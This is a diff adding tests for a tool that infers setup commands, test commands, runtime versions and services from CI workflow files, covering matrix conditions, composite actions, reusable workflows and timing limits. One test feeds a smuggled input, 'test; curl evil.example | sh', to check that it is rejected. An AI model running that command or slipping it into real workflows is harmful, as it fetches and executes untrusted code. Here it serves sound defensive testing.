@@ -122,6 +122,165 @@ describe('where the files name no test command, the CI workflow does', () => {
   });
 });
 
+describe('a job is read as far as its conditions and inputs show', () => {
+  const matrix = `    strategy:
+      matrix:
+        node: [8, 18]
+        platform: [{ os: ubuntu-latest, shell: bash }, { os: windows-latest, shell: cmd }]
+        python: ['3.12', pypy-3.11]
+        include:
+          - { cover: false }
+          - { node: 18, cover: true }
+`;
+  const tested = (condition: string, ...others: readonly string[]): string | undefined => {
+    const step = (one: string, at: number) =>
+      `      - run: make test-${at}\n        if: ${JSON.stringify(one)}\n`;
+    return detect({ [CI]: workflow([condition, ...others].map(step).join(''), matrix) }).commands.test;
+  };
+
+  test.each<[string, boolean]>([
+    ['matrix.node >= 18', true],
+    ['matrix.node < 8', false],
+    ["matrix.platform.os != 'windows-latest'", true],
+    ["matrix.platform.os == 'windows-latest'", false],
+    ["matrix.platform.shell == 'bash'", true],
+    ["matrix.platform.shell == 'cmd'", false],
+    [`\${{ ! matrix.cover }}`, true],
+    ["!startsWith(matrix.python, 'pypy')", true],
+    ["contains(matrix.platform.os, 'windows')", false],
+    ["matrix.python == '3.12' || runner.os == 'Windows'", true],
+    ["(matrix.python == '3.11' || matrix.node == 18) && !failure()", true],
+    ["steps.cache.outputs.cache-hit != 'true'", true],
+    ["steps.cache.outputs.cache-hit == 'true'", false],
+    ["github.event_name != 'schedule'", true],
+    ["github.event_name == 'schedule'", false],
+    ['failure()', false],
+  ])('%s', (condition, runs) => {
+    expect(tested(condition)).toBe(runs ? 'make test-0' : undefined);
+  });
+
+  test('of steps with conditions that only GitHub knows, the first tests are taken, if no others are certain', () => {
+    const changed = "steps.changed.outputs.only == 'false'";
+    expect(tested(changed, "steps.x.outputs.y == 'z'")).toBe('make test-0');
+    expect(tested(changed, changed)).toBe('make test-0 && make test-1');
+    expect(tested(changed, 'always()')).toBe('make test-1');
+    expect(tested("secrets.KEY != ''", 'matrix.cover')).toBe('make test-1');
+    expect(tested("github.ref == 'refs/heads/release'")).toBeUndefined();
+  });
+
+  test('hostile conditions cost no long time', () => {
+    const began = performance.now();
+    for (const one of ['('.repeat(20_000), '!'.repeat(20_000), `a == ${"'".repeat(400)}`, '(a&&'.repeat(120)])
+      tested(one);
+    expect(performance.now() - began).toBeLessThan(1_000);
+  });
+
+  const action = `inputs:
+  node-version: { default: '20' }
+  install: { default: 'true' }
+runs:
+  using: composite
+  steps:
+    - uses: actions/setup-node@v4
+      with: { node-version: '\${{ inputs.node-version }}' }
+    - run: pnpm install --frozen-lockfile
+      if: inputs.install == 'true'
+      shell: bash
+`;
+  const withAction = (inputs: string) => {
+    const read = {
+      [CI]: workflow(`      - uses: ./.github/actions/setup\n${inputs}${run('pnpm run unit')}`),
+      '.github/actions/setup/action.yml': action,
+      'package.json': '{"scripts": {"unit": "vitest run"}}',
+    };
+    const { setup } = detect(read).commands;
+    return [setup, wantedTools(Object.keys(read), new Map(Object.entries(read))).versions.get('node')?.range];
+  };
+
+  test('inputs of the repository’s own actions are filled in, or their defaults', () => {
+    expect(withAction('')).toEqual(['pnpm install --frozen-lockfile', '20']);
+    expect(withAction('        with: { node-version: 22, install: false }\n')).toEqual([undefined, '22']);
+    expect(withAction(`        with: { node-version: "\${{ matrix.node }}" }\n`)[1]).toBeUndefined();
+  });
+
+  test('a workflow that a job calls is read with the inputs and the matrix of the job', () => {
+    const called = `on:
+  workflow_call:
+    inputs:
+      script: { required: true }
+      node: { default: '22' }
+jobs:
+  script:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/setup-node@v4
+        with: { node-version: '\${{ inputs.node }}' }
+      - run: npm ci
+      - run: npm run \${{ inputs.script }}
+`;
+    const caller = (script: string, part = 'core') =>
+      `on: push\njobs:\n  call:\n    uses: ./.github/workflows/script.yml\n    strategy: { matrix: { part: [${part}] } }\n    with: { script: '${script}' }\n`;
+    const of = (text: string) =>
+      detect({ '.github/workflows/all.yml': text, '.github/workflows/script.yml': called });
+    expect(of(caller(`test-\${{ matrix.part }}`)).commands).toEqual({
+      setup: 'npm ci',
+      test: 'npm run test-core',
+    });
+    expect(of(caller('lint')).commands).toEqual({});
+    expect(of(caller('test; curl evil.example | sh')).commands).toEqual({});
+  });
+
+  test('actions that are used many times over cost no long time', () => {
+    const began = performance.now();
+    const big = `runs:\n  steps:\n${`    - run: make test-\${{ inputs.a }}\n`.repeat(900)}`;
+    const uses = `      - uses: ./.github/actions/big\n        with: { a: ${'x'.repeat(400)} }\n`.repeat(500);
+    const paths = Array.from({ length: 12 }, (_, at) => `.github/workflows/w${at}.yml`);
+    detect({
+      ...Object.fromEntries(paths.map((path) => [path, workflow(uses)])),
+      '.github/actions/big/action.yml': big,
+    });
+    expect(performance.now() - began).toBeLessThan(3_000);
+  });
+
+  test('tox and nox are started without uv, pipx and their options; scripts in usual folders are tests', () => {
+    const of = (command: string) => detect({ [CI]: workflow(run(command)) }).commands.test;
+    const tox = '.venv/bin/python -m tox --skip-pkg-install -e py';
+    expect(of('uvx --with tox-uv tox -e py')).toBe(tox);
+    expect(of('uv run --locked --only-group tox tox run -e py')).toBe(tox);
+    expect(of('pipx run nox -s tests')).toBe('.venv/bin/python -m nox -R -s tests');
+    expect(of('scripts/test')).toBe('scripts/test');
+    expect(of('bin/test --all')).toBe('bin/test --all');
+    expect(of('scripts/install')).toBeUndefined();
+    expect(of('cargo nextest run --workspace')).toBe('cargo nextest run --workspace');
+  });
+
+  test.each([
+    'swift build --build-tests',
+    'dotnet build tests/Foo.Tests/Foo.Tests.csproj',
+    'cargo build --tests',
+    'cmake --build b --target tests',
+    'node tests/server.js &',
+    'yarn add jest@29',
+  ])('%s is no test', (command) => {
+    expect(detect({ [CI]: workflow(run(JSON.stringify(command))) }).commands).toEqual({});
+    const more = detect({ [CI]: workflow(run(JSON.stringify(command), 'make test')) }).commands;
+    expect(more.test).toBe('make test');
+  });
+
+  test('of jobs that are as likely, the one with all tests and several versions is read', () => {
+    const job = (id: string, node: string, command: string) =>
+      `  ${id}:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/setup-node@v4\n        with: { node-version: "${node}" }\n      - run: ${command}\n`;
+    const of = (...jobs: readonly string[]) =>
+      detect({ [CI]: `on: push\njobs:\n${jobs.join('')}` }).commands.test;
+    const part = job('test-node', '20\\n22', 'make test-node');
+    expect(of(part, job('test-all', '20', 'make test'))).toBe('make test');
+    expect(of(job('test-cloud', '20', 'make test-cloud'), part)).toBe('make test-node');
+    expect(of(job('test-debug', '20', 'make test'), job('test', '20', 'make test all'))).toBe(
+      'make test all',
+    );
+  });
+});
+
 describe('commands that only the CI service can run are left out', () => {
   const tested = (steps: string, job = ''): string | undefined =>
     detect({ [CI]: workflow(steps, job) }).commands.test;
@@ -282,6 +441,27 @@ ${run('npm test')}`,
 
   test('a pinned version counts more than CI', () => {
     expect(versions({ '.nvmrc': '22\n' }).get('node')).toEqual({ range: '22', file: '.nvmrc' });
+  });
+
+  test('a job whose tests are not recognised still says the versions and services', () => {
+    const job = (steps: string, services = '') =>
+      workflow(
+        `      - uses: actions/setup-python@v5\n        with: { python-version: "3.12" }\n${steps}`,
+        services,
+      );
+    const postgres = '    services:\n      postgres: { image: postgres:16 }\n';
+    const all = {
+      'pyproject.toml': '[project]\nrequires-python = ">=3.9"\n',
+      '.github/workflows/release.yml': job('').replace('3.12', '3.9'),
+      [CI]: job(run('make ci'), postgres),
+    };
+    const tools = wantedTools(Object.keys(all), new Map(Object.entries(all)));
+    expect(tools.versions.get('python')).toEqual({ range: '3.12', file: CI });
+    expect(tools.services).toEqual(['postgres']);
+    const { commands, services } = detect(all);
+    expect([commands, services.map(({ image }) => image)]).toEqual([{}, ['postgres:16']]);
+    const travis = detect({ ...all, '.travis.yml': 'install: pip install x\nscript: make test\n' }).commands;
+    expect(travis.test).toBe('make test');
   });
 
   test('containers beside the tests are named', () => {
